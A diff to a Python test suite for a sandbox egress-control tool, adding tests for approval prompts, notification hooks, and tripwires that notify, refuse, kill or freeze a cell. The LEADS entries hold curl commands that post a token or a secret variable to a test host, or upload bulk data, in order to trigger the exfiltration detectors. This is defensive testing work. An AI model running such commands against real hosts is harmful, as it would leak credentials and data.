@@ -1,11 +1,17 @@
 """What a request leads to (`then`), and tripwires: both only ever take something away."""
 import json
 import os
+import subprocess
 
+import pytest
+
+from approvals import Asking
 from egress_lab import CURL, await_event, helpers_of
-from operators import is_alive, only_root, only_user, wait_until
+from operators import SECONDS, is_alive, only_root, only_user, wait_until
+from test_approvals_notify import configure
 from test_egress_s3 import STRAY
 from test_egress_secrets import UP, canary, give
+from test_freeze import await_frozen
 
 # "After reading payroll, no more writes to GitHub."
 PAYROLL = """
@@ -25,11 +31,11 @@ def code(online, *words):
     return online.inside(*CURL_CODE, *words).out
 
 
-def restart_courier(online):
+def restart_courier(online, url=UP + "/echo"):
     courier = helpers_of(online.operator, online.cell)["courier"]
     os.kill(courier, 9)
     wait_until(lambda: not is_alive(courier), "the courier is dead")
-    wait_until(lambda: code(online, f"{UP}/echo") == "200", "there is another courier")
+    wait_until(lambda: code(online, url) == "200", "there is another courier")
 
 
 @only_user
@@ -139,6 +145,62 @@ def test_it_freezes(online):
     online.operator.cloister("kill", online.cell).ok()
 
 
+@only_user
+def test_it_asks_from_then_on(online):
+    """Whatever is spoken there, also where a rule allows it; of a rule that asks it comes with the approval."""
+    rules = ("  - ask: www.example.test\n    paths: [/hello]\n    then: {ask: [up.example.test]}\n"
+             "  - allow: '*.example.test'\n  - allow: 'up.example.test:7'\n    protocol: tcp\n")
+    a = Asking(online, rules)
+    assert code(online, UP + "/echo") == "200"
+    process, shown = a.ask("https://www.example.test/hello")
+    assert code(online, UP + "/echo") == "200" and not online.events(type="steer")
+    a.answer("refuse", shown["id"], "--reason", "no").ok()
+    assert a.outcome(process) == "403" and code(online, UP + "/echo") == "200"
+    process, shown = a.ask("https://www.example.test/hello")
+    a.answer("approve", shown["id"]).ok()
+    assert a.outcome(process) == "200"
+    steer, = online.events(type="steer", did="consequence")
+    assert steer["of"] == "GET www.example.test" and steer["narrows"] is True
+    assert code(online, "https://www.example.test/up/echo") == "200"
+    process, shown = a.ask(UP + "/204")
+    assert process.poll() is None and shown["host"] == "up.example.test"
+    a.answer("refuse", shown["id"], "--reason", "payroll was read").ok()
+    assert a.end(process)[0] == "403"
+    raw = ("import socket; s = socket.create_connection(('up.example.test', 7)); print(s.recv(99))")
+    process = a.operator.spawn(a.operator.program, "exec", a.cell, "--", "/usr/bin/python3", "-c", raw,
+                               stdout=subprocess.PIPE)
+    shown = a.wait()
+    assert (shown["protocol"], shown["port"]) == ("tcp", 7)
+    a.answer("approve", shown["id"]).ok()
+    assert b"welcome" in process.communicate(timeout=SECONDS)[0]
+    restart_courier(online, "https://www.example.test/up/echo")
+    process, shown = a.ask(UP + "/204")
+    a.answer("approve", shown["id"], "--rule").ok()
+    assert a.outcome(process) == "204" and code(online, UP + "/204") == "204"
+    online.operator.cloister("kill", online.cell).ok()
+
+
+@only_user
+def test_they_are_told_of(operator):
+    """Consequences and tripwires, to whoever wants to hear of them; also of a host that is only denied."""
+    told = operator.folder("out")
+    configure(operator, f"- command: [sh, -c, 'cat >{told}/$CLOISTER_EVENT']\n  on: [consequence, tripwire]\n")
+    policy = operator.file("policy.yaml", "version: 1\negress:\n  - deny: api.example.com\n    then: {notify: true}\n"
+                           "tripwires:\n  refusals: {count: 1, within: 10m, then: notify}\n")
+    cell = operator.detach("-p", policy, "--name", "loud", "--", "sh", "-c",
+                           "curl -sS http://api.example.com/x; exec sleep 1000")
+
+    def heard(event):
+        file = told / event
+        return wait_until(lambda: file.exists() and file.read_text().strip().endswith("}") and json.loads(file.read_text()),
+                          f"its being told of {event}")
+    consequence, tripwire = heard("consequence"), heard("tripwire")
+    assert (consequence["type"], consequence["data"]["cell"], consequence["data"]["name"]) == ("consequence", cell, "loud")
+    assert consequence["data"]["of"] == "GET api.example.com"
+    assert (tripwire["data"]["tripwire"], tripwire["data"]["then"]) == ("refusals", "notify")
+    operator.cloister("kill", cell).ok()
+
+
 TRIPWIRES = """version: 1
 egress:
   - allow: '*.example.test'
@@ -169,3 +231,73 @@ def test_tripwires(online):
         online.inside(*CURL_CODE, UP + "/echo", "-d", f"token={STRAY}")
     wait_until(lambda: online.cell not in online.operator.cloister("ps").ok(), "it is killed")
     assert "refusals came" in online.operator.cloister("ps", "-a", "--json").ok()
+
+
+ALL_OF_THEM = """version: 1
+egress:
+  - allow: '*.example.test'
+tripwires:
+  exfiltration: {then}
+  credential: {then}
+  transfer: {{over: 5x, least: 100K, then: {then}}}
+  refusals: {{count: 2, within: 10m, then: {then}}}
+"""
+
+
+LEADS = {"credential": f"curl -sS -d token={STRAY} {UP}/echo",
+         "transfer": f"head -c 900000 /dev/zero | curl -sS -T - {UP}/echo",
+         "exfiltration": f'curl -sS -d "$KEY" {UP}/echo'}
+
+
+@only_user
+def test_tripwires_that_only_tell(online):
+    """Nothing is refused for them; what is refused anyway still is."""
+    give(online, canary())
+    online.start(ALL_OF_THEM.format(then="notify").replace("exfiltration: notify", "exfiltration: refuse"), "sleep",
+                 "infinity", options=["-s", "KEY"])
+    assert code(online, UP + "/echo", "-d", "x") == "200"
+    told = {which: online.inside("sh", "-c", does).out for which, does in LEADS.items()}
+    assert '"size": 900000' in told["transfer"]
+    assert "refused by cloister" in told["credential"] and "refused by cloister" in told["exfiltration"]
+    wait_until(lambda: {e["tripwire"] for e in online.events(type="steer", did="tripwire")} >=
+               {"credential", "transfer", "refusals"}, "all of them being recorded")
+    assert online.operator.cell(online.cell)["state"] == "running"
+    online.operator.cloister("kill", online.cell).ok()
+
+
+@only_user
+@pytest.mark.parametrize("which", ["credential", "transfer", "exfiltration"])
+def test_a_tripwire_that_kills(online, which):
+    give(online, canary())
+    cell = online.start(ALL_OF_THEM.format(then="kill").replace("count: 2", "count: 20"), "sh", "-c",
+                        f"curl -sS -d x {UP}/echo; {LEADS[which]}; exec sleep infinity", options=["-s", "KEY"])
+    assert online.operator.cloister("wait", cell).status == 137
+    assert online.events(type="cell", did="killed")[0]["by"] in ("tripwire", "exfiltration")
+    assert online.refusal(type="http")["why"] == {"credential": "secret"}.get(which, which)
+
+
+@only_root
+def test_what_freezes(online):
+    """Tripwires, and a budget; and a frozen cell's time goes on."""
+    give(online, canary())
+    cell = online.start("version: 1\nbudgets: [{requests: 6, then: freeze}]\n" +
+                        ALL_OF_THEM.format(then="freeze").removeprefix("version: 1\n").replace("count: 2", "count: 20"),
+                        "sleep", "infinity", options=["-s", "KEY"])
+    assert code(online, UP + "/echo", "-d", "x") == "200"
+
+    def freezes(by, does, count):
+        process = online.operator.spawn(online.operator.program, "exec", cell, "--", "sh", "-c", does,
+                                        stdout=subprocess.PIPE)
+        wait_until(lambda: len(online.events(type="cell", did="frozen")) == count, f"{by} freezing it")
+        await_frozen(cell)
+        assert online.events(type="cell", did="frozen")[-1]["by"] == by
+        online.operator.cloister("thaw", cell).ok()
+        out, _ = process.communicate(timeout=SECONDS)
+        assert b"refused by cloister" in out, out
+    freezes("tripwire", LEADS["transfer"], 1)
+    freezes("tripwire", LEADS["credential"], 2)
+    freezes("exfiltration", LEADS["exfiltration"], 3)
+    freezes("budget", f"while curl -sSf -o /dev/null {UP}/echo; do :; done; echo refused by cloister", 4)
+    online.operator.cloister("freeze", cell).ok()
+    online.operator.cloister("ttl", cell, "100ms").ok()
+    assert online.operator.cloister("wait", cell).status != 0
